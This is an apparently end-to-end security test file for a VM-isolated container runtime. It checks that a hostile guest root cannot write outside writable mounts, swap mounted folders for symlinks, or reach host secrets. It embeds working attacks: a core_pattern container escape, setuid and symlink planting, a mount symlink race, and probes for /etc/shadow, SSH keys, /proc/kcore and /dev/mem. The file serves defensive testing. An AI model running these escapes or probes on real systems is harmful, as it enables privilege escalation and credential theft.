"""A guest whose root is hostile, and the folders of the host that it has: each attack is made on a
real machine.
"""

from __future__ import annotations

import os
import shutil
import stat
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest

from tests.e2e.conftest import HYPERVISORS, Host

pytestmark = pytest.mark.only("qemu")

# A container with all capabilities becomes root of the guest itself: the kernel runs what
# core_pattern names, as root and in the guest's own namespaces.
ESCAPE = r"""
cat > /attack.sh
mkdir -p /p && mount -t proc proc /p
root=/run/vc/containers/$1/rootfs
echo "|$root/bin/busybox sh $root/attack.sh $root" > /p/sys/kernel/core_pattern
sh -c 'kill -SEGV $$'
for i in $(seq 100); do [ -e /done ] && break; sleep 0.2; done
cat /log
"""
BEGIN = r"""
root=$1
exec > $root/log 2>&1
b="$root/bin/busybox"
for name in sh mkdir ln touch mv rm rmdir mknod chmod mount umount ls cat grep seq sleep cp find \
    id; do
    eval "$name() { $b $name \"\$@\"; }"
done
"""


def as_root_of_guest(host: Host, pod: str, script: str) -> str:
    """Runs a script as root of a pod's guest, outside of its containers; `$root` is its container's
    folder.
    """
    whole = f"{BEGIN}\n{script}\ntouch $root/done\n"
    host.vc("exec", "--container", pod, pod, "--", "rm", "-f", "/done")
    return host.vc(
        "exec",
        "--container",
        pod,
        "--cap-add",
        "ALL",
        pod,
        "--",
        "sh",
        "-c",
        ESCAPE,
        "escape",
        pod,
        stdin=whole.encode(),
    ).stdout.decode()


@pytest.fixture
def strong(busybox) -> Path:
    """A root file system with what the attacks need."""
    for name in ("seq", "rm", "mkdir", "mkfifo", "ln", "mv", "find"):
        (busybox / "bin" / name).symlink_to("busybox")
    return busybox


@pytest.mark.only(*HYPERVISORS)
def test_the_guests_root_writes_nowhere_on_the_host_but_in_what_is_mounted_writable(
    host, strong, tmp_path
):
    """Were it able to, it would put a link where the host mounts next, or fill the host's /run."""
    for name in ("data", "closed", "later"):
        (tmp_path / name).mkdir()
        (tmp_path / name / "mark").write_text(name)
    words = ["-v", f"{tmp_path}/data:/data", "-v", f"{tmp_path}/closed:/closed:ro"]
    host.vc(
        "run",
        "-d",
        "--name",
        "p",
        "--cap-add",
        "ALL",
        "--rootfs",
        str(strong),
        *words,
        "--",
        "sleep",
        "600",
    )
    files = host.folder / "run/pods/p/files"
    before = sorted(path.name for path in files.iterdir())
    attack = r"""
echo "I am $(id -u)"
for share in /run/vc/shares/*; do
    cd $share || continue
    echo "share $share: $(ls)"
    mount -o remount,rw $share
    touch planted; mkdir planted-folder; ln -s /etc planted-link; mknod planted-fifo p
    cp $b planted-suid && chmod 4755 planted-suid
    chmod 777 .
    for one in *; do mv $one moved-$one; ln -sfn /etc $one; rmdir $one; done
done
find /run/vc/shares -name mark -type f | while read mark; do echo changed > $mark; done
"""
    told = as_root_of_guest(host, "p", attack)
    assert "I am 0" in told, told
    assert "Read-only file system" in told, told
    assert sorted(path.name for path in files.iterdir()) == before
    assert stat.S_IMODE(files.stat().st_mode) == 0o700
    assert (tmp_path / "data/mark").read_text() == "changed\n", (
        "the attack reaches what is mounted writable"
    )
    assert (tmp_path / "closed/mark").read_text() == "closed"
    assert not (host.folder / "run/pods/p/planted").exists()
    assert list(strong.rglob("planted*")) == []

    race = r"""
cd /run/vc/shares/vc1 2>/dev/null || cd /run/vc/shares/vc0
echo started
i=0
while [ $i -lt 120 ]; do
    i=$((i + 1))
    for one in *; do [ -L $one ] || { rmdir $one && ln -s /etc $one; }; done
done 2>/dev/null
echo ended
"""
    with ThreadPoolExecutor(1) as thread:
        racing = thread.submit(as_root_of_guest, host, "p", race)
        for number in range(4):  # the host mounts while the guest swaps
            name = f"c{number}"
            mounts = ["-v", f"{tmp_path}/later:/later"]
            host.vc(
                "container",
                "create",
                "--name",
                name,
                "--rootfs",
                str(strong),
                *mounts,
                "p",
                "--",
                "true",
            )
            host.vc("container", "delete", "p", name)
        told = racing.result()
    assert "ended" in told, told
    mounted = [line.split()[4] for line in Path("/proc/self/mountinfo").read_text().splitlines()]
    assert not any(point == "/etc" or point.startswith("/etc/") for point in mounted)
    assert sorted(path.name for path in files.iterdir()) == before
    host.vc("pod", "delete", "--force", "p")


def test_a_folder_in_a_folder_is_what_it_was_when_the_container_was_created(host, strong, tmp_path):
    """The container replaces it by a link, and waits for its next start."""
    (tmp_path / "data/logs").mkdir(parents=True)
    secret = tmp_path / "secret"
    secret.mkdir()
    (secret / "key").write_text("precious")
    words = ["-v", f"{tmp_path}/data:/data", "-v", f"{tmp_path}/data/logs:/logs"]
    script = f"rm -rf /data/logs; ln -s {secret} /data/logs; sleep 600"
    host.vc("run", "-d", "--name", "p", "--rootfs", str(strong), *words, "--", "sh", "-c", script)
    host.vc("exec", "p", "--", "sh", "-c", "until [ -L /data/logs ]; do :; done")
    host.vc("pod", "stop", "--grace", "0", "p")
    refused = host.vc("pod", "start", "p", check=None)
    assert refused.returncode != 0
    assert "is not what it was when the container was created" in refused.stderr.decode()
    assert refused.stderr.count(b"\n") == 1
    assert [path.name for path in secret.iterdir()] == ["key"]
    (tmp_path / "data/logs").unlink()
    (tmp_path / "data/logs").mkdir()
    host.vc("pod", "start", "p")
    host.vc("pod", "delete", "--force", "p")


def test_secrets_of_the_host_reach_no_guest_that_runs_the_hosts_own_programs(host, tmp_path):
    """Not even root of the guest, who mounts what the hypervisor shares and looks for himself."""
    home = Path("/root/.ssh")
    made = not home.exists()
    home.mkdir(exist_ok=True)
    key = home / f"vc-test-{os.getpid()}"
    key.write_text("a key of the host")
    try:
        look = f"ls -d /etc/shadow /root/.ssh {key} {host.folder}/run; head -n 1 /etc/passwd"
        done = host.vc("run", "--", "sh", "-c", look, check=None)
        assert b"root:x:0:0" in done.stdout
        assert b"/etc/shadow\n" not in done.stdout
        assert str(key).encode() not in done.stdout.splitlines()
        shown = host.vc(
            "run", "--show-secrets", "--", "sh", "-c", f"cat {key}; ls -d /etc/shadow", check=None
        )
        assert shown.stdout == b"a key of the host/etc/shadow\n"
        refused = host.vc("run", "--rootfs", "/:rw", "--", "true", check=125)
        assert b"--show-secrets" in refused.stderr
        host.vc("run", "-d", "--name", "p", "--cap-add", "ALL", "--", "sleep", "600")
        busybox = shutil.which("busybox")
        host.vc("exec", "p", "--", "cp", busybox, "/busybox-attack")
        attack = r"""
for share in /run/vc/shares/* /run/vc/below/*; do
    echo "$share: $(ls $share | head -n 40)"
    for path in etc/shadow root/.ssh/vc-test-PID proc/kcore proc/1/environ \
        run/virtcontainers dev/mem; do
        [ -e $share/$path ] && echo "REACHED $share/$path"
    done
    for store in STORES; do [ -e $share$store ] && echo "REACHED $share$store"; done
    cat $share/etc/passwd | head -n 1
done
"""
        stores = " ".join(
            str(host.folder / name) for name in ("run", "config", "images", "lasting")
        )
        attack = attack.replace("PID", str(os.getpid())).replace("STORES", stores)
        script = f"{BEGIN}\n{attack}\ntouch $root/done\n".replace(
            "$root/bin/busybox", "$root/busybox-attack"
        )
        escape = ESCAPE.replace("$root/bin/busybox", "$root/busybox-attack")
        words = (
            "exec",
            "--container",
            "p",
            "--cap-add",
            "ALL",
            "p",
            "--",
            "sh",
            "-c",
            escape,
            "escape",
            "p",
        )
        told = host.vc(*words, stdin=script.encode()).stdout.decode()
        assert "root:x:0:0" in told, told
        assert "REACHED" not in told, told
        host.vc("pod", "delete", "--force", "p")
    finally:
        key.unlink()
        if made:
            home.rmdir()
